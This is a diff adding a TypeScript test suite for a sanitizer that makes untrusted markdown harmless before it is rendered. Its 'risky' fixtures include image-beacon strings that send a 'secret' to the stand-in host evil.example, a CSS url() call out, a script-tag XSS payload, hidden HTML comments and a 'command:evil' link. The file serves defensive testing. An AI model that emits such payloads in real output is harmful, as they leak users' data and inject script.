@@ -1,0 +1,70 @@
+import assert from 'node:assert/strict';
+import MarkdownIt from 'markdown-it';
+import { codeSpan, harmlessMarkdown, plainText } from '../../src/summary/untrustedMarkdown.js';
+
+const preview = new MarkdownIt({ html: true });
+const rendered = (markdown: string): string => preview.render(harmlessMarkdown(markdown));
+
+describe('Untrusted Markdown', () => {
+  const harmless = [
+    '# Title\n\n- a **bold** point\n- `code` and [a link](https://example.com)\n',
+    'Generics stay: `Map<string, number>` and 3 < 4, a <3 b.',
+    '```ts\nconst a: Array<string> = [];\nlist![0];\n```\n',
+    '    indented <code>\n',
+    '| a | b |\n| - | - |\n| 1 | 2 |\n',
+  ];
+  for (const markdown of harmless) {
+    it(`leaves ${JSON.stringify(markdown.slice(0, 24))}… as it is`, () => {
+      assert.equal(harmlessMarkdown(markdown), markdown);
+    });
+  }
+
+  const risky = [
+    '![pixel](https://evil.example/?q=secret)',
+    '![ref][x]\n\n[x]: https://evil.example/p.png',
+    'text <img src="https://evil.example/p.png"> text',
+    '<div style="background:url(https://evil.example)">x</div>',
+    '<script>alert(1)</script>',
+    '`unbalanced <img src=x>',
+    'a `b`` <img src=x> `c`',
+    '- item\n\n  <img src=x>\n',
+    '> ![a](b)',
+    '<!-- hidden -->\n\ntext',
+    '[![a](b)](c)',
+    '``` \n<img src=x>\n``` \n\n<img src=y>',
+    '| ![a](b) | <b>x</b> |\n| - | - |\n',
+    '\\![a](https://evil.example/a) \\\\![b](https://evil.example/b)',
+    '`a\nb ![c](d) `e`',
+  ];
+  for (const markdown of risky) {
+    it(`shows ${JSON.stringify(markdown.slice(0, 36))} as text`, () => {
+      assert.doesNotMatch(rendered(markdown), /<(img|div|script|b)\b|<!--/);
+    });
+  }
+
+  it('keeps code blocks untouched beside what is escaped', () => {
+    const markdown = '<img src=x>\n\n```html\n<img src=x>\n```\n';
+    assert.match(harmlessMarkdown(markdown), /^\\<img src=x>\n\n```html\n<img src=x>\n```/);
+  });
+
+  for (const open of ['```ts\nlet a', '~~~~\nx', 'text\n\n```\n', '- item\n  ```\n  x']) {
+    it(`keeps what follows out of ${JSON.stringify(open)}`, () => {
+      assert.match(preview.render(`${harmlessMarkdown(open)}\n\n**below**`), /<strong>below<\/strong>/);
+    });
+  }
+
+  it('makes any name one code span', () => {
+    for (const name of ['a.md', 'a`b.md', '`', '``x``', 'a\nb']) {
+      const [paragraph] = preview.parseInline(codeSpan(name), {});
+      assert.deepEqual(
+        paragraph?.children?.map(({ type, content }) => [type, content.trim()]),
+        [['code_inline', name.replace('\n', ' ')]],
+      );
+    }
+  });
+
+  it('makes any sentence plain text', () => {
+    const nasty = '<b>*x*</b> [a](command:evil) ![i](j) `k` _l_ # m | n & o';
+    assert.equal(preview.renderInline(plainText(nasty)), preview.utils.escapeHtml(nasty).replaceAll('&quot;', '"'));
+  });
+});
